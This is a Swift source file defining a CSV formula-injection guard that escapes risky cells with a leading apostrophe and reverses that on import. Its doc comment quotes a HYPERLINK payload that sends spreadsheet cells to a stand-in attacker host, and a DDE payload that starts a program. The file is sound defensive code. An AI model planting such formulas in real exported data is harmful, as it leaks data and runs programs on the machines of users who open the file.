/// Keeps a CSV cell from being run as a formula when the file is opened in a spreadsheet (OWASP,
/// "CSV Injection"): a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is
/// written with a `'` in front, which Excel, LibreOffice and Google Sheets show as text and do not
/// evaluate. `=HYPERLINK("http://evil.example/?"&A1,"Click")` in a title would otherwise send the
/// sheet's cells away, and `=cmd|' /C calc'!A0` start a program through DDE.
///
/// The one home of the rule, for every writer of CSV, and of its inverse for Bottega's readers,
/// so that a list exported and imported again keeps its titles as they were. The `'` is added
/// also in front of a cell that already starts with `'`s followed by one of those characters
/// (`'=1` is written `''=1`), so reading strips exactly one `'` exactly where writing added one:
/// ``unescaped(_:)`` inverts ``escaped(_:)`` for every text.
///
/// Only text cells go through it. Numbers a writer formats itself (counts, years, ratios) are
/// never formulas, even negative: `-2` is a number to a spreadsheet, while `-2+3` can only come
/// from text.
public enum CSVFormulaGuard {
    /// `text`, with `'` in front when a spreadsheet would read it as a formula (or when it
    /// already looks escaped).
    public static func escaped(_ text: String) -> String {
        needsQuote(text.utf8[...]) ? "'" + text : text
    }

    /// `cell` with the one `'` that ``escaped(_:)`` added taken off; any other cell as it is.
    public static func unescaped(_ cell: String) -> String {
        let bytes = cell.utf8
        guard bytes.first == apostrophe, needsQuote(bytes.dropFirst()) else { return cell }
        return String(cell.dropFirst())
    }

    private static let apostrophe = UInt8(ascii: "'")
    /// `=`, `+`, `-`, `@`, tab, carriage return: the first characters OWASP lists.
    private static let formulaStarts: [UInt8] = [UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"), UInt8(ascii: "@"), 0x09, 0x0D]

    /// Whether the text, after any run of `'`, starts with a formula character.
    private static func needsQuote(_ bytes: Substring.UTF8View) -> Bool {
        guard let first = bytes.first(where: { $0 != apostrophe }) else { return false }
        return formulaStarts.contains(first)
    }
}
